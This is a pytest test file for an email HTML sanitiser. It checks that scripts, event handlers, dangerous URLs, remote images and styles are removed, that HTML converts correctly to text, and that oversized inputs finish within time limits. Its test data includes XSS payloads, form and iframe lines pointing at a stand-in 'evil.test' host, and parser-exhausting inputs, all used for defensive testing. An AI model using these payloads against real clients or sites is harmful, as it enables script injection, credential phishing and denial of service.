"""HTML: what may be shown, what it says, and that neither takes longer than it may."""

from __future__ import annotations

import time

import pytest

from mailbridge.message.html import dom, sanitise, to_text


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        "<svg onload=alert(1)>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        '<iframe src="//evil.test"></iframe>',
        '<form action="//evil.test"><input name=password></form>',
        "<style>@import '//evil.test'</style>",
        '<div style="background:url(//evil.test)">x</div>',
        '<base href="//evil.test"><meta http-equiv=refresh content="0;url=//evil.test">',
        '<a href="vbscript:alert(1)">x</a><object data="//evil.test"></object><embed src="//evil.test">',
    ],
)
def test_nothing_that_acts_is_shown(attack: str) -> None:
    shown = sanitise(f"<p>kept</p>{attack}").lower()
    assert "<p>kept</p>" in shown
    for word in ("alert", "script", "evil.test", "onerror", "onload", "<form", "<input", "url("):
        assert word not in shown


def test_remote_images_and_tracking_pixels_are_gone_and_their_words_stay() -> None:
    shown = sanitise('<p><img src="https://track.test/p.gif" width=1 height=1><img src="//track.test/logo" alt="our logo"></p>')
    assert shown == "<p>[our logo]</p>"


def test_inline_images_keep_their_place() -> None:
    assert sanitise('<p>a<img src="cid:logo@x" alt="logo" width=10>b</p>') == '<p>a<img src="cid:logo@x" alt="logo" width="10">b</p>'
    assert 'src="data:image/png;base64,AA=="' in sanitise('<img src="data:image/png;base64,AA==">')


def test_links_stay_and_tell_nobody_where_they_were() -> None:
    assert sanitise('<a href="https://customer.test/x?a=1&amp;b=2">x</a>') == (
        '<a href="https://customer.test/x?a=1&amp;b=2" rel="noopener noreferrer nofollow">x</a>'
    )


def test_harmless_style_stays() -> None:
    assert sanitise('<p style="color:red;position:fixed">x</p>') == '<p style="color:red">x</p>'


def test_text_keeps_lines_lists_links_and_descriptions() -> None:
    lines = "<p>One<br>two</p><ul><li>a<li>b</ul><pre>  kept\n    so</pre>"
    text = to_text(lines + '<p>see <a href="https://x.test/">here</a> <img src="cid:1" alt="logo"></p>')
    assert text.startswith("One\ntwo\n")
    assert "see here (https://x.test/) logo" in text
    assert "  kept\n    so" in text
    assert [line.strip(" •") for line in text.split("\n") if "•" in line] == ["a", "b"]


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ('<a href="https://x.test/a">here</a>', "here (https://x.test/a)"),
        ('<a href="https://x.test/">https://x.test</a>', "https://x.test"),
        ('<a href="https://www.x.test/?a=1&amp;b=2">x.test/?a=1&amp;b=2</a>', "x.test/?a=1&b=2"),
        ('<a href="mailto:carol@x.test"><b>carol@x.test</b></a>', "carol@x.test"),
        ("<a href=https://x.test/a>here</a>", "here (https://x.test/a)"),
        ('<a name="end">plain</a>', "plain"),
        ('<a href="javascript:alert(1)">plain</a>', "plain"),
        ('<a href="#top">plain</a>', "plain"),
        ("main () (#5)", "main () (#5)"),
    ],
)
def test_link_targets_are_told_where_they_say_more_than_the_words(html: str, text: str) -> None:
    assert to_text(f"<p>{html}</p>") == text


def test_text_has_no_nul_and_no_runs_of_empty_lines() -> None:
    assert to_text("<p>a\0</p><p></p><p><br><br><br></p><p>b&#xD800;</p>").encode("utf-8").count(b"\n\n\n") == 0


MONSTERS = {
    "nested": "<div>" * 300_000,
    "ampersands": "&a" * 800_000,
    "attributes": "<a " + " ".join(f"x{number}=1" for number in range(150_000)) + ">",
    "slashed attributes": "<a " + "/".join(f"x{number}" for number in range(150_000)) + ">",
    "comments": "<!--" * 400_000,
    "formatting": "".join(f"<font size={number}>" for number in range(390)) + "<p>x</p>" * 100_000,
    "open tags": "<a" * 800_000,
    "quotes": "<a '\"" * 300_000,
    "tables": "<table>" * 200_000,
    "spaces": "<pre>" + " " * 1_500_000 + "x",
}


@pytest.mark.parametrize("name", MONSTERS)
def test_monsters_take_no_time(name: str) -> None:
    begin = time.process_time()
    sanitise(MONSTERS[name])
    to_text(MONSTERS[name])
    dom(MONSTERS[name])
    assert time.process_time() - begin < 6


def test_too_deep_html_is_shown_as_its_text() -> None:
    assert sanitise("<div>" * 401 + "deep & down") == "<pre>deep &amp; down</pre>"
    assert "<pre>" not in sanitise("<div>" * 400 + "deep")


def test_too_large_html_is_shown_as_its_text() -> None:
    assert sanitise("<p>x</p>" + " " * (2 << 20)) == "<pre>x</pre>"
